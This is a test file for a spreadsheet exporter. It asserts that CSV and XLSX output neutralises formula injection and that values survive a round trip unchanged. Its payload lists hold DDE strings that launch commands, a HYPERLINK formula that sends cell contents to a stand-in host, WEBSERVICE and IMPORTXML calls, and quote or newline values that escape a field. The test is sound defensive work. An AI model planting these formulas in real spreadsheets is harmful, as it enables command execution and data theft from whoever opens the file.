import { expect, it } from 'vitest'
import { readListFile } from '../../../api/intake/read-file.ts'
import { parseDelimited } from '../../../core/intake/delimited.ts'
import { csvSheets } from '../../../renderer/export/csv.ts'
import type { Sheet } from '../../../renderer/export/sheet.ts'
import { xlsxBytes } from '../../../renderer/export/xlsx.ts'

/** What makes a spreadsheet run a text, in front of what attackers and mistypers write. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n+', ' =', '　@', '\u00a0-']
const rests = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.test?x="&A1,"看")',
  'SUM(A1:A9)',
  'WEBSERVICE("http://example.test")',
  'IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  "2+3+cmd|' /C calc'!A0",
  '1,"=2',
  '1";=1+2',
  "'=1",
  'N95口罩',
  '0757-22318000',
  '1\r\n=2',
]
const hidden = ["'=1+1", "''=1+1", "'+1", "'@A1", "'-1", "'\t=1", "'医用口罩", "it's", "'''", 'a=b', '00123', '"=1"']
const payloads = [...signs.flatMap((sign) => rests.map((rest) => sign + rest)), ...hidden]

const sheet: Sheet = {
  name: '物资',
  columns: [
    { header: '品名', kind: 'text' },
    { header: '备注', kind: 'text' },
    { header: '数量', kind: 'number' },
  ],
  rows: payloads.map((payload, index) => [`甲${index}`, payload, index]),
}

it(`${payloads.length} formulas go out as text that nothing runs, and come back as they were`, async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(200)
  const workbook = await readListFile(await xlsxBytes(sheet), 'a.xlsx')
  const csv = await readListFile(csvSheets([sheet]), 'a.csv')
  for (const read of [workbook, csv]) {
    if (!read.ok) throw new Error(JSON.stringify(read.refusal))
    const rows = read.value.sheets[0]!.rows.slice(1)
    expect(rows.map(({ cells }) => cells[1])).toEqual(payloads)
  }
})

it('no field of the CSV begins with what a spreadsheet runs', () => {
  const text = new TextDecoder().decode(csvSheets([sheet]))
  const fields = parseDelimited(text, ',').rows.flat()
  expect(fields.length).toBe(3 * (payloads.length + 1))
  expect(fields.filter((field) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(field))).toEqual([])
})
